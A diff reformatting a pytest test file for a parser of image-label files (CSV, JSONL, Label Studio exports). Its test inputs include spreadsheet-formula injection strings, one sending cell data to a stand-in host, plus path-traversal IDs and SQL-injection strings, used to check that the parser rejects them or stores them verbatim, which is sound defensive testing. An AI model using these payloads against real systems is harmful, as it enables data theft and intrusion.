@@ -70,20 +70,44 @@ def only_error(parsed: ParsedLabels) -> LabelError:
 
 def ls_ann(aid, label, *, cancelled=False, by=1, created="2024-05-01T10:00:00Z", updated=None, extra=None):
     a = {
-        "id": aid, "was_cancelled": cancelled, "completed_by": by, "created_at": created,
-        "updated_at": updated or created, "lead_time": 2.5, "ground_truth": False, "task": 1, "project": 1,
-        "result": [] if label is None else [
-            {"id": f"r{aid}", "type": "choices", "from_name": "label", "to_name": "image", "origin": "manual",
-             "value": {"choices": [label]}}],
+        "id": aid,
+        "was_cancelled": cancelled,
+        "completed_by": by,
+        "created_at": created,
+        "updated_at": updated or created,
+        "lead_time": 2.5,
+        "ground_truth": False,
+        "task": 1,
+        "project": 1,
+        "result": []
+        if label is None
+        else [
+            {
+                "id": f"r{aid}",
+                "type": "choices",
+                "from_name": "label",
+                "to_name": "image",
+                "origin": "manual",
+                "value": {"choices": [label]},
+            }
+        ],
     }
     a.update(extra or {})
     return a
 
 
 def ls_task(tid, image_id, anns, **extra):
-    t = {"id": tid, "data": {"image": f"/data/local-files/?d={str(image_id)[:8]}.jpg", "image_id": image_id},
-         "annotations": anns, "predictions": [], "drafts": [], "meta": {}, "inner_id": tid,
-         "created_at": "2024-05-01T09:00:00Z", "updated_at": "2024-05-01T09:00:00Z"}
+    t = {
+        "id": tid,
+        "data": {"image": f"/data/local-files/?d={str(image_id)[:8]}.jpg", "image_id": image_id},
+        "annotations": anns,
+        "predictions": [],
+        "drafts": [],
+        "meta": {},
+        "inner_id": tid,
+        "created_at": "2024-05-01T09:00:00Z",
+        "updated_at": "2024-05-01T09:00:00Z",
+    }
     t.update(extra)
     return t
 
@@ -109,10 +133,7 @@ def test_valid_csv(tmp_path):
 
 
 def test_csv_optional_columns_any_order_bom_crlf_and_quoted_newline(tmp_path):
-    body = (f"note,label,annotation_id,image_id\r\n"
-            f"\"two\r\nlines\",cat,a-1,{CAT[0]}\r\n"
-            f"  ,  dog  ,,  {DOG[0]}  \r\n"
-            f"\r\n")
+    body = f'note,label,annotation_id,image_id\r\n"two\r\nlines",cat,a-1,{CAT[0]}\r\n  ,  dog  ,,  {DOG[0]}  \r\n\r\n'
     p = parse(tmp_path, b"\xef\xbb\xbf" + body.encode())
     assert p.ok, p.errors
     assert p.rows[0] == LabelRow(2, CAT[0], "cat", False, None, "a-1", "two\r\nlines")
@@ -135,18 +156,32 @@ def test_skip_label_rows(tmp_path):
 
 def test_same_label_twice_is_counted_once(tmp_path):
     # one annotator answering the same twice: counted once (the first row kept); two annotators: two answers
-    p = parse(tmp_path, csv_text([(CAT[0], "cat", "alice"), (DOG[0], "dog", ""), (CAT[0], "cat", "alice"),
-                                  (CAT[0], "cat", "bob"), (DOG[0], "dog", "")]))
+    p = parse(
+        tmp_path,
+        csv_text(
+            [
+                (CAT[0], "cat", "alice"),
+                (DOG[0], "dog", ""),
+                (CAT[0], "cat", "alice"),
+                (CAT[0], "cat", "bob"),
+                (DOG[0], "dog", ""),
+            ]
+        ),
+    )
     assert p.ok and p.warnings == ()
-    assert [(r.image_id, r.annotator, r.line) for r in p.rows] == [(CAT[0], "alice", 2), (DOG[0], None, 3),
-                                                                    (CAT[0], "bob", 5)]
+    assert [(r.image_id, r.annotator, r.line) for r in p.rows] == [
+        (CAT[0], "alice", 2),
+        (DOG[0], None, 3),
+        (CAT[0], "bob", 5),
+    ]
     assert p.n_duplicates == 2 and p.n_records == 5
 
 
 def test_csv_injection_is_stored_verbatim(tmp_path):
     evil = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
-    rows = [(CAT[i % 3] if i < 3 else DOG[i - 3], "cat" if i < 3 else "dog", a, f"note {a}")
-            for i, a in enumerate(evil)]
+    rows = [
+        (CAT[i % 3] if i < 3 else DOG[i - 3], "cat" if i < 3 else "dog", a, f"note {a}") for i, a in enumerate(evil)
+    ]
     p = parse(tmp_path, csv_text(rows, header=("image_id", "label", "annotator", "note")))
     assert p.ok, p.errors
     assert [r.annotator for r in p.rows] == evil
@@ -160,8 +195,11 @@ def test_two_annotators_disagreeing_are_both_kept(tmp_path):
     # two annotators, two labels for one image: two answers (labels.policy decides), no error, no warning
     p = parse(tmp_path, csv_text([(CAT[0], "cat", "a"), (DOG[0], "dog", "a"), (CAT[0], "dog", "b")]))
     assert p.ok and p.warnings == ()
-    assert [(r.image_id, r.label, r.annotator) for r in p.rows] == [(CAT[0], "cat", "a"), (DOG[0], "dog", "a"),
-                                                                     (CAT[0], "dog", "b")]
+    assert [(r.image_id, r.label, r.annotator) for r in p.rows] == [
+        (CAT[0], "cat", "a"),
+        (DOG[0], "dog", "a"),
+        (CAT[0], "dog", "b"),
+    ]
 
 
 def test_one_annotator_answering_twice_keeps_both_with_a_warning(tmp_path):
@@ -178,17 +216,20 @@ def test_one_annotator_answering_twice_keeps_both_with_a_warning(tmp_path):
 # ---------------------------------------------------------------- bad CSV
 
 
-@pytest.mark.parametrize("bad_id, why", [
-    ("../x", "looks like a path"),
-    ("../../etc/passwd", "looks like a path"),
-    ("/etc/passwd", "looks like a path"),
-    ("C:\\images\\cat.jpg", "looks like a path"),
-    ("a" * 10_000, "10000 characters long"),
-    ("'; DROP TABLE labels; --", "24 characters long"),
-    ("x' OR '1'='1" + "0" * 52, "other than 0-9 a-f"),
-    (CAT[0].upper(), "uppercase"),
-    (CAT[0][:63], "63 characters long"),
-])
+@pytest.mark.parametrize(
+    "bad_id, why",
+    [
+        ("../x", "looks like a path"),
+        ("../../etc/passwd", "looks like a path"),
+        ("/etc/passwd", "looks like a path"),
+        ("C:\\images\\cat.jpg", "looks like a path"),
+        ("a" * 10_000, "10000 characters long"),
+        ("'; DROP TABLE labels; --", "24 characters long"),
+        ("x' OR '1'='1" + "0" * 52, "other than 0-9 a-f"),
+        (CAT[0].upper(), "uppercase"),
+        (CAT[0][:63], "63 characters long"),
+    ],
+)
 def test_bad_image_ids(tmp_path, bad_id, why):
     e = only_error(parse(tmp_path, csv_text([(DOG[0], "dog", "a"), (bad_id, "cat", "a")])))
     assert (e.line, e.field) == (3, "image_id")
@@ -204,14 +245,17 @@ def test_unknown_and_missing_image_id(tmp_path):
     assert (e.line, e.field, e.message) == (2, "image_id", "missing image_id")
 
 
-@pytest.mark.parametrize("label, hint", [
-    ("Cat", "did you mean 'cat'?"),
-    ("CAT", "did you mean 'cat'?"),
-    ("Skip", "did you mean the skip label 'skip'?"),
-    ("kitten", "classes: airplane, automobile"),
-    ("cat; DROP TABLE labels", "classes:"),
-    ("c\u0430t", "classes:"),  # Cyrillic a: not the class
-])
+@pytest.mark.parametrize(
+    "label, hint",
+    [
+        ("Cat", "did you mean 'cat'?"),
+        ("CAT", "did you mean 'cat'?"),
+        ("Skip", "did you mean the skip label 'skip'?"),
+        ("kitten", "classes: airplane, automobile"),
+        ("cat; DROP TABLE labels", "classes:"),
+        ("c\u0430t", "classes:"),  # Cyrillic a: not the class
+    ],
+)
 def test_label_outside_classes(tmp_path, label, hint):
     e = only_error(parse(tmp_path, csv_text([(CAT[0], label, "a")])))
     assert (e.line, e.field) == (2, "label") and "not a class" in e.message and hint in e.message
@@ -372,28 +416,39 @@ def jl(*objs) -> str:
 
 
 def test_valid_jsonl(tmp_path):
-    p = parse(tmp_path, jl({"image_id": CAT[0], "label": "cat", "annotator": "alice", "annotation_id": "7"},
-                           "", {"image_id": DOG[0], "label": "skip", "annotator": None, "note": "blurry"}),
-              name="l.jsonl")
+    p = parse(
+        tmp_path,
+        jl(
+            {"image_id": CAT[0], "label": "cat", "annotator": "alice", "annotation_id": "7"},
+            "",
+            {"image_id": DOG[0], "label": "skip", "annotator": None, "note": "blurry"},
+        ),
+        name="l.jsonl",
+    )
     assert p.ok and p.format == "jsonl"
-    assert p.rows == (LabelRow(1, CAT[0], "cat", False, "alice", "7", None),
-                      LabelRow(3, DOG[0], "skip", True, None, None, "blurry"))
+    assert p.rows == (
+        LabelRow(1, CAT[0], "cat", False, "alice", "7", None),
+        LabelRow(3, DOG[0], "skip", True, None, None, "blurry"),
+    )
 
 
-@pytest.mark.parametrize("key, value, got", [
-    ("label", 3, "a number"),
-    ("label", 3.5, "a number"),
-    ("label", True, "a boolean"),
-    ("label", ["cat"], "a list"),
-    ("label", {"name": "cat"}, "an object"),
-    ("label", None, "null"),
-    ("image_id", 12345, "a number"),
-    ("image_id", [1, 2], "a list"),
-    ("annotator", 5, "a number"),
-    ("annotation_id", 17, "a number"),
-    ("note", {"x": 1}, "an object"),
-    ("note", False, "a boolean"),
-])
+@pytest.mark.parametrize(
+    "key, value, got",
+    [
+        ("label", 3, "a number"),
+        ("label", 3.5, "a number"),
+        ("label", True, "a boolean"),
+        ("label", ["cat"], "a list"),
+        ("label", {"name": "cat"}, "an object"),
+        ("label", None, "null"),
+        ("image_id", 12345, "a number"),
+        ("image_id", [1, 2], "a list"),
+        ("annotator", 5, "a number"),
+        ("annotation_id", 17, "a number"),
+        ("note", {"x": 1}, "an object"),
+        ("note", False, "a boolean"),
+    ],
+)
 def test_jsonl_non_strings_are_rejected_not_coerced(tmp_path, key, value, got):
     row = {"image_id": CAT[0], "label": "cat", key: value}
     e = only_error(parse(tmp_path, jl({"image_id": DOG[0], "label": "dog"}, row), name="l.jsonl"))
@@ -438,18 +493,33 @@ def test_json_at_the_depth_limit_is_parsed(tmp_path):
 def test_label_studio_every_annotation_is_an_answer(tmp_path):
     tasks = [
         # two live annotations and a cancelled one: three answers, each with its annotator, task, time, lead_time
-        ls_task(101, CAT[0], [
-            ls_ann(11, "cat", by={"id": 3, "email": "ann@example.org"}, created="2024-05-01T10:00:00Z",
-                   updated="2024-05-03T08:00:00Z"),
-            ls_ann(12, "dog", by=4, created="2024-05-02T10:00:00Z"),
-            ls_ann(13, "ship", cancelled=True, created="2024-05-09T10:00:00Z"),  # Skip: a skip, whatever its result
-        ]),
+        ls_task(
+            101,
+            CAT[0],
+            [
+                ls_ann(
+                    11,
+                    "cat",
+                    by={"id": 3, "email": "ann@example.org"},
+                    created="2024-05-01T10:00:00Z",
+                    updated="2024-05-03T08:00:00Z",
+                ),
+                ls_ann(12, "dog", by=4, created="2024-05-02T10:00:00Z"),
+                ls_ann(13, "ship", cancelled=True, created="2024-05-09T10:00:00Z"),  # Skip: a skip, whatever its result
+            ],
+        ),
         # only cancelled annotations: two skips
         ls_task(102, DOG[0], [ls_ann(14, None, cancelled=True), ls_ann(15, "dog", cancelled=True, by=5)]),
         # no annotation at all (not labelled yet): no row, counted
         ls_task(103, DOG[1], [], drafts=[{"id": 1, "user": "x@example.org", "result": []}]),
-        ls_task(104, SHIP[0], [ls_ann(21, "ship", created="2024-05-04T10:00:00+00:00", extra={"updated_at": None}),
-                               ls_ann(20, "skip", by=2, created="2024-05-04T12:00:00+02:00")]),
+        ls_task(
+            104,
+            SHIP[0],
+            [
+                ls_ann(21, "ship", created="2024-05-04T10:00:00+00:00", extra={"updated_at": None}),
+                ls_ann(20, "skip", by=2, created="2024-05-04T12:00:00+02:00"),
+            ],
+        ),
         ls_task(105, SHIP[1], [ls_ann(30, "skip", by=9)]),
     ]
     p = parse(tmp_path, ls_text(tasks), name="export.json")
@@ -457,10 +527,16 @@ def test_label_studio_every_annotation_is_an_answer(tmp_path):
     assert p.format == "label_studio" and p.n_cancelled == 3 and p.n_records == 5
     assert p.n_drafts == 1 and p.n_unanswered == 1 and p.warnings == ()
     got = [(r.image_id, r.label, r.is_skip, r.annotator, r.annotation_id, r.task_id) for r in p.rows]
-    assert got == [(CAT[0], "cat", False, "ann@example.org", "11", "101"), (CAT[0], "dog", False, "4", "12", "101"),
-                   (CAT[0], "skip", True, "1", "13", "101"), (DOG[0], "skip", True, "1", "14", "102"),
-                   (DOG[0], "skip", True, "5", "15", "102"), (SHIP[0], "ship", False, "1", "21", "104"),
-                   (SHIP[0], "skip", True, "2", "20", "104"), (SHIP[1], "skip", True, "9", "30", "105")]
+    assert got == [
+        (CAT[0], "cat", False, "ann@example.org", "11", "101"),
+        (CAT[0], "dog", False, "4", "12", "101"),
+        (CAT[0], "skip", True, "1", "13", "101"),
+        (DOG[0], "skip", True, "1", "14", "102"),
+        (DOG[0], "skip", True, "5", "15", "102"),
+        (SHIP[0], "ship", False, "1", "21", "104"),
+        (SHIP[0], "skip", True, "2", "20", "104"),
+        (SHIP[1], "skip", True, "9", "30", "105"),
+    ]
     first = p.rows[0]
     assert first.annotated_at.isoformat() == "2024-05-03T08:00:00+00:00"  # updated_at, else created_at (UTC)
     assert p.rows[5].annotated_at.isoformat() == "2024-05-04T10:00:00+00:00"
@@ -471,23 +547,30 @@ def test_label_studio_every_annotation_is_an_answer(tmp_path):
     d = p.decisions[0]
     assert d["image_id"] == CAT[0] and d["rule"] == L.ANSWER_RULE
     assert [(a["annotation_id"], a["label"], a["cancelled"]) for a in d["answers"]] == [
-        ("13", "skip", True), ("11", "cat", False), ("12", "dog", False)]
+        ("13", "skip", True),
+        ("11", "cat", False),
+        ("12", "dog", False),
+    ]
     # each row names the line where its task starts
     text = ls_text(tasks)
     assert first.line == text[: text.index('"id": 101')].count("\n")
 
 
 def test_label_studio_user_id_becomes_the_email_the_file_shows(tmp_path):
-    tasks = [ls_task(1, CAT[0], [ls_ann(1, "cat", by=7)]),
-             ls_task(2, DOG[0], [ls_ann(2, "dog", by={"id": 7, "email": "eve@example.org"})])]
+    tasks = [
+        ls_task(1, CAT[0], [ls_ann(1, "cat", by=7)]),
+        ls_task(2, DOG[0], [ls_ann(2, "dog", by={"id": 7, "email": "eve@example.org"})]),
+    ]
     p = parse(tmp_path, ls_text(tasks), name="e.json")
     assert p.ok and [r.annotator for r in p.rows] == ["eve@example.org", "eve@example.org"]
 
 
 def test_label_studio_empty_annotation_is_a_warning_naming_task_and_annotation(tmp_path):
-    tasks = [ls_task(1, CAT[0], [ls_ann(1, "cat")]), ls_task(4, DOG[0], [ls_ann(3, None)]),
-             ls_task(5, SHIP[0], [ls_ann(6, "ship", extra={"result": [
-                 {"type": "choices", "value": {"choices": []}}]})])]
+    tasks = [
+        ls_task(1, CAT[0], [ls_ann(1, "cat")]),
+        ls_task(4, DOG[0], [ls_ann(3, None)]),
+        ls_task(5, SHIP[0], [ls_ann(6, "ship", extra={"result": [{"type": "choices", "value": {"choices": []}}]})]),
+    ]
     p = parse(tmp_path, ls_text(tasks, indent=None), name="e.json")
     assert p.ok and [r.image_id for r in p.rows] == [CAT[0]]  # the rest of the file is applied
     assert p.n_empty == 2 and p.n_unanswered == 2
@@ -520,27 +603,50 @@ def test_label_studio_bad_tasks(tmp_path):
         (ls_task(2, 12345, [ls_ann(2, "cat")]), "data.image_id", "must be a string, got a number"),
         ({**ls_task(2, CAT[0], []), "data": {"image": "x.jpg"}}, "data.image_id", "missing 'image_id'"),
         ({"id": 2, "data": {"image_id": CAT[0]}}, "annotations", "not a task of Label Studio's JSON export"),
-        (ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"was_cancelled": "no"})]), "annotations[0].was_cancelled",
-         "must be true or false"),
+        (
+            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"was_cancelled": "no"})]),
+            "annotations[0].was_cancelled",
+            "must be true or false",
+        ),
         (ls_task(2, CAT[0], [ls_ann("2", "cat")]), "annotations[0].id", "must be an integer"),
-        (ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"updated_at": "yesterday"})]), "annotations[0].updated_at",
-         "not an ISO 8601 time"),
-        (ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"result": {"choices": ["cat"]}})]), "annotations[0].result",
-         "result must be a list"),
-        (ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"lead_time": "3"})]), "annotations[0].lead_time",
-         "lead_time must be a number of seconds"),
-        (ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"result": [
-            {"type": "choices", "value": {"choices": ["cat", "dog"]}}]})]),
-         "annotations[0].result[0].value.choices", "exactly one label, got 2 choices"),
-        (ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"result": [
-            {"type": "choices", "value": {"choices": [7]}}]})]),
-         "annotations[0].result[0].value.choices", "must be a string, got a number"),
+        (
+            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"updated_at": "yesterday"})]),
+            "annotations[0].updated_at",
+            "not an ISO 8601 time",
+        ),
+        (
+            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"result": {"choices": ["cat"]}})]),
+            "annotations[0].result",
+            "result must be a list",
+        ),
+        (
+            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"lead_time": "3"})]),
+            "annotations[0].lead_time",
+            "lead_time must be a number of seconds",
+        ),
+        (
+            ls_task(
+                2,
+                CAT[0],
+                [ls_ann(2, "cat", extra={"result": [{"type": "choices", "value": {"choices": ["cat", "dog"]}}]})],
+            ),
+            "annotations[0].result[0].value.choices",
+            "exactly one label, got 2 choices",
+        ),
+        (
+            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"result": [{"type": "choices", "value": {"choices": [7]}}]})]),
+            "annotations[0].result[0].value.choices",
+            "must be a string, got a number",
+        ),
         (ls_task(2, CAT[0], [ls_ann(2, "Cat")]), "annotations[0].result", "did you mean 'cat'?"),
         (ls_task(2, "../../etc/passwd", [ls_ann(2, "cat")]), "data.image_id", "looks like a path"),
         (ls_task(2, CAT[0], [ls_ann(2, "cat", by=[1])]), "annotations[0].completed_by", "user id"),
         # every annotation must hold a valid label, an older one too
-        (ls_task(2, CAT[0], [ls_ann(2, "cat", updated="2024-06-01T00:00:00Z"), ls_ann(3, "kitten")]),
-         "annotations[1].result", "not a class"),
+        (
+            ls_task(2, CAT[0], [ls_ann(2, "cat", updated="2024-06-01T00:00:00Z"), ls_ann(3, "kitten")]),
+            "annotations[1].result",
+            "not a class",
+        ),
         (ls_task(2, CAT[0], [ls_ann(2, "cat"), ls_ann(2, "cat")]), "annotations", "same annotation id"),
         ("a task", None, "must be a JSON object"),
     ]
@@ -574,8 +680,10 @@ def test_label_studio_malformed_json(tmp_path):
         (good[:-1] + " {}]", "expected ',' or ']'"),
         (good + " []", "extra data after the array"),
         (good.replace('"meta": {}', '"meta": {"x": 1, "x": 2}', 1), "duplicate key 'x'"),
-        ('[{"id": 1, "data": {"image_id": "' + CAT[0] + '"}, "meta": ' + "[" * 50 + "]" * 50 + "}]",
-         f"deeper than {L.MAX_JSON_DEPTH}"),
+        (
+            '[{"id": 1, "data": {"image_id": "' + CAT[0] + '"}, "meta": ' + "[" * 50 + "]" * 50 + "}]",
+            f"deeper than {L.MAX_JSON_DEPTH}",
+        ),
         ("[" * 100_000, "deeper than"),
         ("[]", "no data rows"),
     ]
@@ -589,6 +697,7 @@ def test_label_studio_depth_limit_counts_the_enclosing_array(tmp_path):
     def doc(k):  # depth: array 1 + task 1 + k
         t = ls_text([ls_task(1, CAT[0], [ls_ann(1, "cat")])], indent=None)
         return t.replace('"meta": {}', '"meta": ' + "[" * k + "]" * k)
+
     assert parse(tmp_path, doc(L.MAX_JSON_DEPTH - 2), name="e.json").ok
     p = parse(tmp_path, doc(L.MAX_JSON_DEPTH - 1), name="e.json")
     assert only_error(p).message == f"task #1: JSON nested deeper than {L.MAX_JSON_DEPTH} levels"
@@ -623,23 +732,58 @@ def test_label_studio_tasks_carry_the_batch():
     ids = [CAT[0], DOG[1], SHIP[2]]
     paths = {CAT[0]: "/p/cat/a.jpg", DOG[1]: "/p/dog/b c.png", SHIP[2]: "/p/ship/c.jpg"}
     template = "/files/{name}?p={path}&i={image_id}&r={relpath}&u={url_path}"
-    tasks = L.label_studio_tasks(3, "margin", ids, [0.9, float("nan"), 0.1], paths, template, document_root="/p",
-                                 strategies=["adjudication", "margin", "margin"],
-                                 predictions={CAT[0]: ("dog", 0.75), DOG[1]: ("dog", 0.5)}, model_version="pr-1")
+    tasks = L.label_studio_tasks(
+        3,
+        "margin",
+        ids,
+        [0.9, float("nan"), 0.1],
+        paths,
+        template,
+        document_root="/p",
+        strategies=["adjudication", "margin", "margin"],
+        predictions={CAT[0]: ("dog", 0.75), DOG[1]: ("dog", 0.5)},
+        model_version="pr-1",
+    )
     assert [t["data"] for t in tasks] == [
-        {"image": f"/files/a.jpg?p=/p/cat/a.jpg&i={CAT[0]}&r=cat/a.jpg&u=cat/a.jpg", "image_id": CAT[0],
-         "path": "cat/a.jpg", "round": 3, "rank": 1, "score": 0.9, "strategy": "adjudication",
-         "task_key": f"round-0003/{CAT[0]}"},
-        {"image": f"/files/b c.png?p=/p/dog/b c.png&i={DOG[1]}&r=dog/b c.png&u=dog/b%20c.png", "image_id": DOG[1],
-         "path": "dog/b c.png", "round": 3, "rank": 2, "score": None, "strategy": "margin",  # NaN: null
-         "task_key": f"round-0003/{DOG[1]}"},
-        {"image": f"/files/c.jpg?p=/p/ship/c.jpg&i={SHIP[2]}&r=ship/c.jpg&u=ship/c.jpg", "image_id": SHIP[2],
-         "path": "ship/c.jpg", "round": 3, "rank": 3, "score": 0.1, "strategy": "margin",
-         "task_key": f"round-0003/{SHIP[2]}"},
+        {
+            "image": f"/files/a.jpg?p=/p/cat/a.jpg&i={CAT[0]}&r=cat/a.jpg&u=cat/a.jpg",
+            "image_id": CAT[0],
+            "path": "cat/a.jpg",
+            "round": 3,
+            "rank": 1,
+            "score": 0.9,
+            "strategy": "adjudication",
+            "task_key": f"round-0003/{CAT[0]}",
+        },
+        {
+            "image": f"/files/b c.png?p=/p/dog/b c.png&i={DOG[1]}&r=dog/b c.png&u=dog/b%20c.png",
+            "image_id": DOG[1],
+            "path": "dog/b c.png",
+            "round": 3,
+            "rank": 2,
+            "score": None,
+            "strategy": "margin",  # NaN: null
+            "task_key": f"round-0003/{DOG[1]}",
+        },
+        {
+            "image": f"/files/c.jpg?p=/p/ship/c.jpg&i={SHIP[2]}&r=ship/c.jpg&u=ship/c.jpg",
+            "image_id": SHIP[2],
+            "path": "ship/c.jpg",
+            "round": 3,
+            "rank": 3,
+            "score": 0.1,
+            "strategy": "margin",
+            "task_key": f"round-0003/{SHIP[2]}",
+        },
     ]
     # the probe's guess as a prediction Label Studio shows as a pre-annotation (and sorts by its score)
-    assert tasks[0]["predictions"] == [{"model_version": "pr-1", "score": 0.75, "result": [
-        {"from_name": "label", "to_name": "image", "type": "choices", "value": {"choices": ["dog"]}}]}]
+    assert tasks[0]["predictions"] == [
+        {
+            "model_version": "pr-1",
+            "score": 0.75,
+            "result": [{"from_name": "label", "to_name": "image", "type": "choices", "value": {"choices": ["dog"]}}],
+        }
+    ]
     assert tasks[1]["predictions"][0]["score"] == 0.5 and "predictions" not in tasks[2]
     json.dumps(tasks, allow_nan=False)  # valid JSON as written
     with pytest.raises(ValueError):
@@ -648,8 +792,9 @@ def test_label_studio_tasks_carry_the_batch():
     outside = L.label_studio_tasks(3, "margin", ids, [0.9, 0.1, 0.2], paths, "{url_path}", document_root="/else")
     assert [t["data"]["path"] for t in outside] == ["p/cat/a.jpg", "p/dog/b c.png", "p/ship/c.jpg"]
     # no pre-labels without the probe's id (the seed batch, or label_studio.prelabels: false)
-    plain = L.label_studio_tasks(0, "centroid", ids[:1], [0.5], paths, "{url_path}", document_root="/p",
-                                 predictions={CAT[0]: ("dog", 0.75)})
+    plain = L.label_studio_tasks(
+        0, "centroid", ids[:1], [0.5], paths, "{url_path}", document_root="/p", predictions={CAT[0]: ("dog", 0.75)}
+    )
     assert "predictions" not in plain[0]
 
 
@@ -672,19 +817,30 @@ def test_label_studio_task_urls_match_the_real_servers_import(tmp_path):
     images = tmp_path / "images"
     paths = {t["data"]["image_id"]: str(images / t["data"]["path"].split("/", 1)[1]) for t in real}
     ids = list(paths)
-    tasks = L.label_studio_tasks(1, "dropquery", ids, [0.5] * len(ids), paths, "/data/local-files/?d={url_path}",
-                                 document_root=tmp_path)
+    tasks = L.label_studio_tasks(
+        1, "dropquery", ids, [0.5] * len(ids), paths, "/data/local-files/?d={url_path}", document_root=tmp_path
+    )
     assert [(t["data"]["image"], t["data"]["path"]) for t in tasks] == [
-        (t["data"]["image"], t["data"]["path"]) for t in real]
+        (t["data"]["image"], t["data"]["path"]) for t in real
+    ]
     assert {"c%2Bd.jpg", "r%26d.jpg", "x%231.jpg", "with%20space.jpg", "%C3%A9.jpg"} <= {
-        t["data"]["image"].rsplit("/", 1)[1] for t in tasks}
+        t["data"]["image"].rsplit("/", 1)[1] for t in tasks
+    }
 
 
 def test_label_studio_tasks_round_trip_through_the_reader(tmp_path):
     # what Label Studio exports after annotating the imported tasks is read back by the reader
     ids = [CAT[0], DOG[0]]
-    tasks = L.label_studio_tasks(1, "margin", ids, [0.5, 0.25], {i: f"{i[:4]}.jpg" for i in ids}, "{path}",
-                                 predictions={i: ("cat", 0.5) for i in ids}, model_version="p1")
+    tasks = L.label_studio_tasks(
+        1,
+        "margin",
+        ids,
+        [0.5, 0.25],
+        {i: f"{i[:4]}.jpg" for i in ids},
+        "{path}",
+        predictions={i: ("cat", 0.5) for i in ids},
+        model_version="p1",
+    )
     for n, (t, label) in enumerate(zip(tasks, ["cat", "skip"]), 1):
         t.update(id=n, annotations=[ls_ann(n, label)])
     p = parse(tmp_path, json.dumps(tasks), name="export.json")
@@ -694,21 +850,38 @@ def test_label_studio_tasks_round_trip_through_the_reader(tmp_path):
 
 # ---------------------------------------------------------------- formats agree
 def test_csv_jsonl_and_label_studio_parse_identically(tmp_path):
-    data = [(CAT[0], "cat", "alice", "1"), (DOG[0], "dog", "bob", "2"), (SHIP[0], "skip", "alice", "3"),
-            (CAT[1], "cat", "=evil()", "4")]
+    data = [
+        (CAT[0], "cat", "alice", "1"),
+        (DOG[0], "dog", "bob", "2"),
+        (SHIP[0], "skip", "alice", "3"),
+        (CAT[1], "cat", "=evil()", "4"),
+    ]
     c = parse(tmp_path, csv_text(data, header=("image_id", "label", "annotator", "annotation_id")), name="a.csv")
-    j = parse(tmp_path, jl(*[{"image_id": i, "label": lab, "annotator": a, "annotation_id": n}
-                             for i, lab, a, n in data]), name="a.jsonl")
-    s = parse(tmp_path, ls_text([ls_task(100 + k, i, [ls_ann(int(n), lab, by={"id": k, "email": a})])
-                                 for k, (i, lab, a, n) in enumerate(data)]), name="a.json")
+    j = parse(
+        tmp_path,
+        jl(*[{"image_id": i, "label": lab, "annotator": a, "annotation_id": n} for i, lab, a, n in data]),
+        name="a.jsonl",
+    )
+    s = parse(
+        tmp_path,
+        ls_text(
+            [
+                ls_task(100 + k, i, [ls_ann(int(n), lab, by={"id": k, "email": a})])
+                for k, (i, lab, a, n) in enumerate(data)
+            ]
+        ),
+        name="a.json",
+    )
     assert c.ok and j.ok and s.ok
     assert (c.format, j.format, s.format) == ("csv", "jsonl", "label_studio")
+
     def no_line(p):
         return [(r.image_id, r.label, r.is_skip, r.annotator, r.annotation_id, r.note) for r in p.rows]
 
     assert no_line(c) == no_line(j) == no_line(s)
-    assert {k: v for k, v in c.summary().items() if k not in ("file", "sha256", "format")} == \
-        {k: v for k, v in j.summary().items() if k not in ("file", "sha256", "format")}
+    assert {k: v for k, v in c.summary().items() if k not in ("file", "sha256", "format")} == {
+        k: v for k, v in j.summary().items() if k not in ("file", "sha256", "format")
+    }
 
 
 def test_content_decides_the_format(tmp_path):
@@ -727,8 +900,9 @@ def test_errors_beyond_the_cap_are_counted(tmp_path, monkeypatch):
 
 def test_long_text_fields_are_errors(tmp_path):
     long = "n" * (L.MAX_FIELD_CHARS + 1)
-    e = only_error(parse(tmp_path, csv_text([(CAT[0], "cat", "a", long)],
-                                            header=("image_id", "label", "annotator", "note"))))
+    e = only_error(
+        parse(tmp_path, csv_text([(CAT[0], "cat", "a", long)], header=("image_id", "label", "annotator", "note")))
+    )
     assert (e.line, e.field) == (2, "note") and f"the limit is {L.MAX_FIELD_CHARS}" in e.message
 
 
@@ -741,9 +915,14 @@ def test_write_error_report(tmp_path):
     rep = json.loads(dest.read_text())
     assert rep["file"] == p.path and rep["sha256"] == p.sha256 and rep["format"] == "csv"
     assert rep["n_errors"] == 31 and rep["n_listed"] == 10 and rep["n_omitted"] == 21
-    assert rep["errors"][0] == {"line": 2, "field": "image_id", "value_preview": repr(UNKNOWN),
-                                "message": "unknown image_id: no image with this sha256 in the store",
-                                "task_id": None, "annotation_id": None}
+    assert rep["errors"][0] == {
+        "line": 2,
+        "field": "image_id",
+        "value_preview": repr(UNKNOWN),
+        "message": "unknown image_id: no image with this sha256 in the store",
+        "task_id": None,
+        "annotation_id": None,
+    }
     assert rep["n_warnings"] == 0 and rep["warnings"] == []
     # the default cap
     assert write_error_report(p, dest) == dest
@@ -751,9 +930,11 @@ def test_write_error_report(tmp_path):
 
 
 def test_labels_module_never_imports_dagster():
-    code = ("import sys, al_core.labels, al_core.cli.labels; "
-            "bad = [m for m in sys.modules if m.split('.')[0] in ('dagster', 'duckdb', 'torch')]; "
-            "assert not bad, bad")
+    code = (
+        "import sys, al_core.labels, al_core.cli.labels; "
+        "bad = [m for m in sys.modules if m.split('.')[0] in ('dagster', 'duckdb', 'torch')]; "
+        "assert not bad, bad"
+    )
     subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT, timeout=60)
 
 
@@ -776,8 +957,7 @@ def project(tmp_path_factory):
         (root / "images" / cls).mkdir(parents=True)
         for f in _sample_files(cls, 2):
             shutil.copy(f, root / "images" / cls / f.name)
-    (root / "al.yaml").write_text("images:\n  root: images\npaths:\n  data_dir: data\n"
-                                  "store:\n  lock_timeout_s: 2\n")
+    (root / "al.yaml").write_text("images:\n  root: images\npaths:\n  data_dir: data\nstore:\n  lock_timeout_s: 2\n")
     scan(Store(root / "data" / "warehouse.duckdb"), root=root / "images")
     return root
 
@@ -820,9 +1000,22 @@ def test_check_bad_file(project, capsys):
 
